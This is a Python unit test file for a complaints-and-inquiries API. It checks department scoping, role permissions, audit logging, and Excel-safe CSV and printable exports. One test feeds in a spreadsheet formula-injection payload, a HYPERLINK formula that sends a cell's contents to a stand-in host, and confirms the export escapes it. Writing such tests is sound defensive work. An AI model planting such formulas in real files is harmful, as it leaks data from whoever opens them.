"""Complaints and inquiries (A6): recorded with their handling, closed with a date, listed within the
caller's departments, exported as Excel-safe CSV and a printable register; every step audited."""
from __future__ import annotations

import csv
import io

from services.api.auth.roles import Role
from services.api.store.audit import AuditFilter
from tests.unit.api.apikit import Api

URL = "/api/v1/complaints"


def staff(api: Api) -> tuple[dict, dict, dict]:
    api.add_account("boss", Role.MANAGER)
    api.add_account("clerk", Role.OPERATOR, departments=("roads",))
    api.add_account("checker", Role.AUDITOR)
    return api.headers("boss"), api.headers("clerk"), api.headers("checker")


def test_record_handle_close_and_list(api: Api) -> None:
    boss, clerk, checker = staff(api)
    r = api.client.post(URL, headers=clerk, json={
        "category": "complaint", "camera_id": "bridge-1", "contact_name": "山田 花子", "contact": "090-0000-0000",
        "summary": "自宅の窓が映っているのではないか", "received_at": "2026-06-01T08:30:00+09:00"})
    assert r.status_code == 201, r.text
    c = r.json()
    assert (c["status"], c["handled_by"], c["created_by"], c["closed_at"]) == ("open", "clerk", "clerk", None)
    r = api.client.patch(f"{URL}/{c['id']}", headers=clerk, json={
        "handling": "プライバシーマスクを確認し、窓をマスク済みであることを説明した", "status": "closed"})
    assert r.status_code == 200 and r.json()["status"] == "closed" and r.json()["closed_at"] is not None
    assert api.client.post(URL, headers=clerk, json={"category": "inquiry", "camera_id": "station-1",
                                                     "summary": "x"}).status_code == 404  # not clerk's department
    assert api.client.post(URL, headers=checker, json={"category": "inquiry", "summary": "x"}).status_code == 403
    assert api.client.post(URL, headers=clerk, json={"category": "rant", "summary": "x"}).status_code == 422
    assert api.client.patch(f"{URL}/{c['id']}", headers=clerk, json={"handled_by": "nobody"}).status_code == 422
    listed = api.client.get(f"{URL}?status=closed", headers=checker).json()
    assert [x["handling"][:7] for x in listed] == ["プライバシーマ"]
    actions = [e.record.action for e in api.parts.audit.entries(AuditFilter(limit=100))]
    assert actions.count("complaint_recorded") == 1 and actions.count("complaint_updated") == 1
    assert "complaints_read" in actions


def test_reopening_clears_the_closing_date(api: Api) -> None:
    boss, _, _ = staff(api)
    c = api.client.post(URL, headers=boss, json={"category": "inquiry", "summary": "?", "status": "closed"}).json()
    assert c["closed_at"] is not None
    again = api.client.patch(f"{URL}/{c['id']}", headers=boss, json={"status": "in_progress"}).json()
    assert again["closed_at"] is None and again["status"] == "in_progress"


def test_csv_is_excel_safe_and_the_register_prints(api: Api) -> None:
    boss, _, checker = staff(api)
    api.client.post(URL, headers=boss, json={"category": "other", "contact_name": '=HYPERLINK("http://x/"&A1,"open")',
                                             "summary": "+1 call me", "contact": "@someone"})
    r = api.client.get(f"{URL}/export.csv", headers=checker)
    assert r.status_code == 200 and r.content.startswith(b"\xef\xbb\xbf")  # BOM: Excel reads the kanji
    rows = list(csv.DictReader(io.StringIO(r.content.decode("utf-8-sig"))))
    assert rows[0]["contact_name"].startswith("'=") and rows[0]["summary"] == "'+1 call me"
    assert rows[0]["contact"] == "'@someone" and rows[0]["category"] == "その他"
    page = api.client.get(f"{URL}/print", headers=checker)
    assert page.status_code == 200 and "問い合わせ・苦情等処理簿" in page.text and "&lt;" not in page.text
    assert "&#x27;" not in page.text and "HYPERLINK" in page.text
    assert api.client.get(f"{URL}/export.csv", headers=api.headers("clerk")).status_code == 403
